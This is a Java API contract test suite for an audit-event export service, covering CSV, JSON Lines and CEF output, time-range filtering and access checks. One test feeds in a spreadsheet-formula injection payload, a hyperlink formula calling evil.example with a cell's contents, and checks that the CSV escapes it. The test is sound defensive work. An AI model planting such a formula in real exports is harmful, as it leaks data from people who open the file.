package dev.portcullis.policy.export;

import static dev.portcullis.policy.support.Api.admin;
import static dev.portcullis.policy.support.Api.as;
import static dev.portcullis.policy.support.Api.createService;
import static dev.portcullis.policy.support.Api.uniqueName;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import dev.portcullis.policy.support.Api;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The audit export through the API, on each database. */
public abstract class ExportApiContract {

    String subject;

    @BeforeEach
    void reportEvents() {
        subject = uniqueName("yamada");
        String key = createService(uniqueName("idp"), "events");
        as(key).body(List.of(
                Map.of("time", "2026-11-24T09:00:00Z", "type", "LOGIN", "subject", subject, "outcome", "success",
                        "ip", "192.0.2.1", "details", Map.of("client", "wallet, admin", "名前", "山田 \"太郎\"")),
                Map.of("time", "2026-11-24T09:05:00Z", "type", "LOGIN_ERROR", "subject", subject,
                        "outcome", "failure", "ip", "192.0.2.1", "details", Map.of("error", "line1\nline2=x")),
                Map.of("time", "2026-11-25T09:00:00Z", "type", "LOGIN", "subject", subject, "outcome", "success",
                        "details", Map.of())))
                .post("/api/v1/events").then().statusCode(200);
    }

    @Test
    void csvExportIsFilteredAndRoundTrips() throws Exception {
        // changed on purpose: from/to go by recording time unless by=event, and these are the events' own times
        String csv = admin().queryParam("subject", subject).queryParam("format", "csv").queryParam("by", "event")
                .queryParam("from", "2026-11-24T00:00:00Z").queryParam("to", "2026-11-24T23:59:59Z")
                .get("/api/v1/audit/events")
                .then().statusCode(200).contentType(startsWith("text/csv"))
                .header("Content-Disposition", containsString("attachment; filename=\"portcullis-audit-"))
                .header("Content-Disposition", containsString(".csv\""))
                .extract().asString();
        List<Map<String, String>> rows = new CsvMapper().readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader()).<Map<String, String>>readValues(csv).readAll();
        assertThat(rows).extracting(r -> r.get("type")).containsExactly("LOGIN", "LOGIN_ERROR");
        assertThat(rows.get(0).get("details")).contains("wallet, admin").contains("山田 \\\"太郎\\\"");
        assertThat(rows.get(0).get("actor")).startsWith("service:idp-");
    }

    @Test
    void jsonLinesAndCefCarryOneEventPerLine() throws Exception {
        String jsonl = admin().queryParam("subject", subject).queryParam("format", "jsonl")
                .queryParam("outcome", "failure").get("/api/v1/audit/events")
                .then().statusCode(200).extract().asString();
        assertThat(jsonl.lines()).hasSize(1);
        var event = new ObjectMapper().readTree(jsonl.lines().findFirst().orElseThrow());
        assertThat(event.get("details").get("error").asText()).isEqualTo("line1\nline2=x");
        assertThat(event.get("hash").asText()).hasSize(64);

        String cef = admin().queryParam("subject", subject).queryParam("format", "cef")
                .get("/api/v1/audit/events").then().statusCode(200).extract().asString();
        assertThat(cef.lines()).hasSize(3).allMatch(l -> l.startsWith("CEF:0|Portcullis|policy-service|"));
        assertThat(cef).contains("line1\\\\nline2\\=x").contains("|LOGIN_ERROR|LOGIN_ERROR failure|6|");
    }

    /** A prober's username that is a spreadsheet formula opens as text from the CSV, and stays exact elsewhere. */
    @Test
    void aFormulaInAReportedEventOpensAsTextFromTheCsv() throws Exception {
        String service = createService(uniqueName("vpn"), "events");
        String formula = "=hyperlink(\"http://evil.example/\"&a1,\"" + uniqueName("x") + "\")";
        as(service).body(Api.event("LOGIN_ERROR", formula)).post("/api/v1/events").then().statusCode(200);
        String csv = admin().queryParam("subject", formula).queryParam("format", "csv")
                .get("/api/v1/audit/events").then().statusCode(200).extract().asString();
        var rows = new com.fasterxml.jackson.dataformat.csv.CsvMapper().readerFor(Map.class)
                .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader())
                .<Map<String, String>>readValues(csv).readAll();
        assertThat(rows).singleElement().satisfies(row -> assertThat(row).containsEntry("subject", "'" + formula));
        String jsonl = admin().queryParam("subject", formula).queryParam("format", "jsonl")
                .get("/api/v1/audit/events").then().statusCode(200).extract().asString();
        assertThat(new ObjectMapper().readTree(jsonl.lines().findFirst().orElseThrow()).get("subject").asText())
                .isEqualTo(formula);
    }

    /** A sender dates an event in 2020: a range of recording time finds it; by=event, its own time does. */
    @Test
    void aBackdatedEventIsFoundByItsRecordingTimeUnlessAskedByItsOwn() {
        String service = createService(uniqueName("vpn"), "events");
        String old = uniqueName("old");
        Instant start = Instant.now().truncatedTo(ChronoUnit.MILLIS);
        as(service).body(List.of(Map.of("time", "2020-01-01T00:00:00Z", "type", "LOGIN", "subject", old,
                "outcome", "success"))).post("/api/v1/events").then().statusCode(200);
        String end = Instant.now().plusSeconds(60).toString();
        assertThat(exported(old, start.toString(), end, null)).hasSize(1)
                .allSatisfy(line -> assertThat(line).contains("\"time\":\"2020-01-01T00:00:00Z\""));
        assertThat(exported(old, start.toString(), end, "recorded")).hasSize(1);
        assertThat(exported(old, start.toString(), end, "event")).isEmpty();
        assertThat(exported(old, "2020-01-01T00:00:00Z", "2020-01-01T23:59:59Z", "event")).hasSize(1);
        assertThat(exported(old, "2020-01-01T00:00:00Z", "2020-01-01T23:59:59Z", null)).isEmpty();
        // CEF: rt is when it was recorded, start the time it gives
        String cef = admin().queryParam("subject", old).queryParam("format", "cef").get("/api/v1/audit/events")
                .then().statusCode(200).extract().asString();
        var rt = java.util.regex.Pattern.compile("\\|rt=(\\d+) ").matcher(cef);
        assertThat(rt.find()).as(cef).isTrue();
        assertThat(Long.parseLong(rt.group(1))).isGreaterThanOrEqualTo(start.toEpochMilli());
        assertThat(cef).contains(" start=" + Instant.parse("2020-01-01T00:00:00Z").toEpochMilli() + " ");
    }

    private List<String> exported(String subject, String from, String to, String by) {
        var request = admin().queryParam("subject", subject).queryParam("format", "jsonl").queryParam("from", from)
                .queryParam("to", to);
        if (by != null) {
            request.queryParam("by", by);
        }
        return request.get("/api/v1/audit/events").then().statusCode(200).extract().asString().lines().toList();
    }

    @Test
    void onlyAuditorsAndAdminsExportAndBadParametersAreProblems() {
        String service = createService(uniqueName("vpn"), "mfa", "credentials", "events");
        as(service).get("/api/v1/audit/events").then().statusCode(403);
        given().get("/api/v1/audit/events").then().statusCode(401);
        admin().queryParam("format", "xml").get("/api/v1/audit/events").then().statusCode(400)
                .contentType("application/problem+json").body("errors[0].field", equalTo("format"));
        admin().queryParam("from", "monday").get("/api/v1/audit/events").then().statusCode(400)
                .body("errors[0].field", equalTo("from"));
        admin().queryParam("outcome", "maybe").get("/api/v1/audit/events").then().statusCode(400)
                .body("errors[0].field", equalTo("outcome"));
        admin().queryParam("by", "sender").get("/api/v1/audit/events").then().statusCode(400)
                .contentType("application/problem+json").body("errors[0].field", equalTo("by"));
    }
}
